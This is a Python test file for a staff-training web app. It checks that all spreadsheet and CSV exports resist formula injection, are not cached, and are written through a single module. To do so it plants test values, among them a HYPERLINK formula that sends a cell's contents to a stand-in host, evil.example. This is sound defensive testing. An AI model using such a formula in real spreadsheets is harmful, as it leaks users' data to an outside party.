"""Every export (roster, plan, report, bundle) is formula-safe and never cached; a new download
route or a spreadsheet written outside nq05.spreadsheets makes this file fail."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import select, update

from nq05.auth.models import User
from nq05.classes.models import Enrolment, TrainingClass
from nq05.plans.models import Plan
from nq05.reference.models import Programme
from nq05.staff.models import Person, Unit
from tests.web.helpers import sign_in_session

LEAK = '=HYPERLINK("http://evil.example/?leak="&C8,"Bấm vào đây")'
PLANTED = {LEAK, "=1+1", "@SUM(1)", "+84912", "-X", "=2+2"}
PACKAGE = Path(__file__).resolve().parents[1] / "nq05"

#: every download route, and how this file asks for it (a route added later must be added here)
DOWNLOADS = {
    "classes.export": "/classes/{class_id}/roster.xlsx",
    "plans.export": "/plans/{plan_id}/export.xlsx",
    "plans.template": "/plans/template.xlsx?unit_id={unit_id}&year=2016",
    "progress.report_xlsx": "/progress/report.xlsx?baseline=31/12/2010&as_of=01/03/2014&period=2011-2015",
    "reference.export_workbook": "/admin/reference/export.xlsx",
}


def _planted_world(runner, db, mini_bundle):
    result = runner.invoke(args=["import", str(mini_bundle)])
    assert result.exit_code == 0, result.stderr
    db.session.execute(update(Person).where(Person.code == "S1").values(full_name=LEAK))
    db.session.execute(update(Person).where(Person.code == "S2").values(full_name="-X"))
    db.session.execute(update(Unit).where(Unit.code == "SNV").values(name="=1+1"))
    db.session.execute(update(Programme).where(Programme.code == "NQ05_STUDY").values(name="+84912"))
    db.session.execute(
        update(TrainingClass)
        .where(TrainingClass.code == "MASTER_2013")
        .values(place="@SUM(1)", funding_source="=SUM(A1:A9)")
    )
    master = select(TrainingClass.id).where(TrainingClass.code == "MASTER_2013").scalar_subquery()
    db.session.execute(update(Enrolment).where(Enrolment.class_id == master).values(certificate_no="=2+2"))
    db.session.commit()
    snv = db.session.scalar(select(Unit).where(Unit.code == "SNV"))
    return {
        "class_id": db.session.scalar(select(TrainingClass.id).where(TrainingClass.code == "MASTER_2013")),
        "plan_id": db.session.scalar(select(Plan.id).where(Plan.unit_id == snv.id, Plan.year == 2013)),
        "unit_id": snv.id,
    }


def _no_formula_and_planted_text(data: bytes) -> set[str]:
    """The planted values found, after checking that no cell of the workbook is a formula."""
    book = load_workbook(io.BytesIO(data))
    found = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value}"
                if isinstance(cell.value, str) and any(p in cell.value for p in PLANTED):
                    assert cell.data_type == "s"
                    found |= {p for p in PLANTED if p in cell.value}
    return found


def test_every_download_is_formula_safe_and_not_cached(app, client, runner, db, mini_bundle):
    routes = {r.endpoint for r in app.url_map.iter_rules() if r.rule.endswith((".xlsx", ".csv"))}
    assert routes == set(DOWNLOADS), "a download route without a check here"
    ids = _planted_world(runner, db, mini_bundle)
    sign_in_session(client, db.session.scalar(select(User).where(User.role == "admin")))

    found = {}
    for endpoint, url in DOWNLOADS.items():
        response = client.get(url.format(**ids))
        assert response.status_code == 200, endpoint
        assert response.headers["Cache-Control"] == "no-store", endpoint
        assert "attachment" in response.headers["Content-Disposition"]
        found[endpoint] = _no_formula_and_planted_text(response.data)

    assert LEAK in found["classes.export"] and "@SUM(1)" in found["classes.export"]
    assert "=2+2" in found["classes.export"]  # a certificate number
    roster = load_workbook(io.BytesIO(client.get(DOWNLOADS["classes.export"].format(**ids)).data)).active
    funding = [c for row in roster.iter_rows() for c in row if c.value == "=SUM(A1:A9)"]
    assert [c.data_type for c in funding] == ["s"]  # the funding source is text, not a formula
    assert {LEAK, "-X", "=1+1"} <= found["plans.export"]
    assert "=1+1" in found["plans.template"]
    assert "+84912" in found["progress.report_xlsx"]
    assert "+84912" in found["reference.export_workbook"]


def test_the_bundle_export_is_formula_safe(runner, db, mini_bundle, tmp_path):
    _planted_world(runner, db, mini_bundle)
    assert runner.invoke(args=["export", str(tmp_path / "bundle.xlsx")]).exit_code == 0
    assert runner.invoke(args=["export", str(tmp_path / "csv")]).exit_code == 0

    assert PLANTED - {"@SUM(1)", "=2+2"} <= _no_formula_and_planted_text(
        (tmp_path / "bundle.xlsx").read_bytes()
    )
    cells = [
        c for p in (tmp_path / "csv").iterdir() for row in csv.reader(open(p, encoding="utf-8")) for c in row
    ]
    assert {"'" + LEAK, "'=1+1", "'+84912", "'-X"} <= set(cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_only_nq05_spreadsheets_writes_spreadsheets():
    """openpyxl's Workbook and csv writers are used through nq05.spreadsheets.writing only."""
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        if path.parent.name == "spreadsheets":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.ImportFrom) and node.module and node.module.startswith("openpyxl"):
                if any(alias.name in ("Workbook", "WriteOnlyCell", "Cell") for alias in node.names):
                    offenders.append(f"{path.relative_to(PACKAGE)}: from {node.module} import ...")
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
                if isinstance(node.value, ast.Name) and node.value.id == "csv":
                    offenders.append(f"{path.relative_to(PACKAGE)}: csv.{node.attr}")
    assert offenders == []
